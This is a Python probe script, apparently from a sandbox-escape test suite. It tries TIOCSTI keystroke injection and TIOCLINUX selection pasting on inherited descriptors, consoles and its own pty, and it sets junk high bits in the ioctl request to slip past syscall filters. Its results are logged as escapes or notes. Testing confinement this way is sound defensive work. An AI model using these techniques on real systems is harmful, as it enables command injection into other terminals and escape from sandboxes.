"""Inject keystrokes with TIOCSTI and use TIOCLINUX on every reachable terminal (inherited fds, /dev/tty, consoles, our own controlling pty), also with junk in the request's upper 32 bits."""
import ctypes
import os

from _attack import ESCAPES, NOTES, en, finish, in_child, libc, sysc  # noqa: F401

TIOCSTI, TIOCLINUX, TIOCSCTTY = 0x5412, 0x541C, 0x540E

libc.ioctl.restype = ctypes.c_int
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p]


def ioctl(fd, req, arg):
    ctypes.set_errno(0)
    r = libc.ioctl(fd, req, arg)
    return r, ctypes.get_errno()


def poke(fd, how, out):
    ch = ctypes.c_char(b"x")
    sel = ctypes.create_string_buffer(b"\x02" + b"\0" * 16)  # TIOCL_SETSEL
    paste = ctypes.create_string_buffer(b"\x03")  # TIOCL_PASTESEL
    for req, name, arg in ((TIOCSTI, "TIOCSTI", ctypes.addressof(ch)),
                           (TIOCSTI | (1 << 32), "TIOCSTI|1<<32", ctypes.addressof(ch)),
                           (TIOCSTI | (0xfeed << 32), "TIOCSTI|0xfeed<<32", ctypes.addressof(ch)),
                           (TIOCLINUX, "TIOCLINUX/SETSEL", ctypes.addressof(sel)),
                           (TIOCLINUX, "TIOCLINUX/PASTESEL", ctypes.addressof(paste)),
                           (TIOCLINUX | (1 << 32), "TIOCLINUX|1<<32", ctypes.addressof(paste))):
        r, e = ioctl(fd, req, arg)
        if r == 0:
            out.append("ESC %s on %s succeeded" % (name, how))
        else:
            out.append("NOTE %s on %s: %s" % (name, how, en(e)))


def own_pty():
    """Makes a fresh pty our controlling terminal (so the kernel's own
    'not your terminal' check cannot be what refuses TIOCSTI), then pokes it."""
    out = []
    os.setsid()
    master, slave = os.openpty()
    r, e = ioctl(slave, TIOCSCTTY, 0)
    out.append("NOTE TIOCSCTTY on own pty: %s" % ("ok" if r == 0 else en(e)))
    poke(slave, "own controlling pty", out)
    os.set_blocking(master, False)
    try:
        data = os.read(master, 100)
        out.append("NOTE pty master saw %r" % data)
    except OSError:
        pass
    return "\n".join(out)


def main():
    out = []
    for fd in (0, 1, 2):
        poke(fd, "inherited fd %d" % fd, out)
    for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/hvc0"):
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError as e:
            out.append("NOTE open %s: %s" % (path, en(e.errno)))
            continue
        poke(fd, path, out)
        os.close(fd)
    out += in_child(own_pty).splitlines()
    for line in out:
        if line.startswith("ESC "):
            ESCAPES.append(line[4:])
        elif line.startswith("NOTE "):
            if "ENOTTY" not in line:
                NOTES.append(line[5:])
    NOTES.append("inherited fds 0-2 are not terminals (ENOTTY)")


if __name__ == "__main__":
    finish(main)
